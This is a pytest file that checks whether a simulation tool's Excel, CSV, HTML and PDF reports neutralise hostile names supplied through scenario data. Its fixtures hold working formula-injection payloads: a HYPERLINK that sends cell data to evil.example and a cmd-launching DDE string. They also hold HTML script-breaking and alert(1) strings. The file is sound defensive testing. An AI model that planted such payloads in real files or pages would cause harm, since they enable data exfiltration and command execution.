"""Text from data files is inert in every output: Excel, CSV, HTML (charts still render), PDF text layer.

Names are set with ``--set`` to strings a stranger's scenario file could hold: spreadsheet formulas
(``=``, ``+``, ``-``, ``@``), terminal markup (``[/]``, ``[link=…]``) and script-breaking HTML
(``</script>``, ``<!--<script>``). A simulation-only analysis keeps the test short (no planner).
"""

from __future__ import annotations

import csv
import re
import tempfile

import pytest

from .conftest import chromium_or_skip
from .test_report_browser import FLAGS

NASTY = {
    "scenarios.taiwan_base.name.en": '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "scenarios.taiwan_base.name.ja": "台湾 [/] [link=http://evil.example]侵攻[/link] </script><!--<script>",
    "actors.JPN.name.en": "@SUM(1+1)",
    "actors.JPN.name.ja": "=1+2 日本",
    "actors.USA.name.en": "-2+3+cmd|' /C calc'!A0",
    "actors.PRC.name.en": "+PRC <!--<script>alert(1)</script>",
}
FORMULA_START = re.compile(r"^[=+\-@\t\r]")
pytestmark = pytest.mark.slow  # one simulation and two briefings (about 20 s)


@pytest.fixture(scope="module")
def nasty_outputs(tmp_path_factory):
    from positivesum import services
    from positivesum.model.errors import InputError
    from positivesum.services.report import analysis_from_results, write_report

    ld = services.load(None, None, [f"{k}={v}" for k, v in NASTY.items()])
    analysis = analysis_from_results(ld, [services.simulate(ld, "taiwan_base", 40, 1)])
    out = {}
    for lang in ("en", "ja"):
        target = tmp_path_factory.mktemp(f"nasty-{lang}")
        try:
            out[lang] = write_report(analysis, lang, target)
        except InputError:  # no Chromium: everything but the PDF
            out[lang] = {
                "html": target / "briefing.html",
                "xlsx": target / "briefing.xlsx",
                "tables": target / "tables",
            }
    return out


@pytest.mark.parametrize("lang", ["en", "ja"])
def test_no_formula_cell_in_the_workbook(nasty_outputs, lang):
    import openpyxl

    wb = openpyxl.load_workbook(nasty_outputs[lang]["xlsx"])
    seen = 0
    for ws in wb:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str) and FORMULA_START.match(cell.value) and cell.value not in ("-", "+"):
                    assert cell.quotePrefix, (ws.title, cell.coordinate, cell.value)  # shown as written, never run
                    seen += 1
    assert seen > 0  # the nasty names did reach the workbook


@pytest.mark.parametrize("lang", ["en", "ja"])
def test_no_csv_cell_starts_a_formula(nasty_outputs, lang):
    seen = 0
    for path in sorted(nasty_outputs[lang]["tables"].glob("*.csv")):
        with path.open(encoding="utf-8", newline="") as f:
            for row in csv.reader(f):
                for value in row:
                    if "HYPERLINK" in value or "@SUM" in value:
                        seen += 1
                    if FORMULA_START.match(value):
                        # only plain numbers and a lone dash may start with a sign
                        assert re.fullmatch(r"[+-]?[\d.,]+(e[+-]?\d+)?%?|[-+]", value), (path.name, value)
    assert seen > 0


def test_html_escapes_the_names_and_keeps_one_script_per_element(nasty_outputs):
    html = nasty_outputs["en"]["html"].read_text(encoding="utf-8")
    assert "<!--<script>" not in html and "alert(1)</script>" not in html
    assert html.count("<script") == html.count("</script>")
    assert "&lt;!--&lt;script&gt;" in html or "\\u003c!--\\u003cscript" in html


@pytest.mark.browser
@pytest.mark.parametrize("lang", ["en", "ja"])
def test_charts_still_render_with_hostile_names(nasty_outputs, lang):
    binary = chromium_or_skip()
    from playwright.sync_api import sync_playwright

    with tempfile.TemporaryDirectory(prefix="positivesum-test-chromium-") as profile, sync_playwright() as p:
        context = p.chromium.launch_persistent_context(profile, executable_path=binary, headless=True, args=FLAGS)
        page = context.new_page()
        errors, dialogs = [], []
        page.on("pageerror", lambda e: errors.append(str(e)))
        page.on("dialog", lambda d: (dialogs.append(d.message), d.dismiss()))
        page.goto(nasty_outputs[lang]["html"].resolve().as_uri())
        page.wait_for_function(
            "[...document.querySelectorAll('figure.chart')].every(f => f.classList.contains('rendered') "
            "|| f.classList.contains('failed'))",
            timeout=60_000,
        )
        states = page.evaluate("[...document.querySelectorAll('figure.chart')].map(f => f.className)")
        context.close()
    assert states and all("rendered" in s for s in states), states
    assert not errors and not dialogs, (errors, dialogs)


def test_japanese_pdf_text_is_searchable(nasty_outputs):
    """The PDF's text layer holds the ideographs themselves (日 U+65E5), not Kangxi radicals (⽇ U+2F47)."""
    chromium_or_skip()
    from pypdf import PdfReader

    pdf = nasty_outputs["ja"]["pdf"]
    text = "".join(page.extract_text() or "" for page in PdfReader(pdf).pages)
    assert "日本" in text
    assert not [c for c in text if 0x2E80 <= ord(c) < 0x2FE0], "radical look-alikes in the text layer"
    for heading in ("要旨", "シナリオの結果", "前提", "再現性"):
        assert heading in text, heading
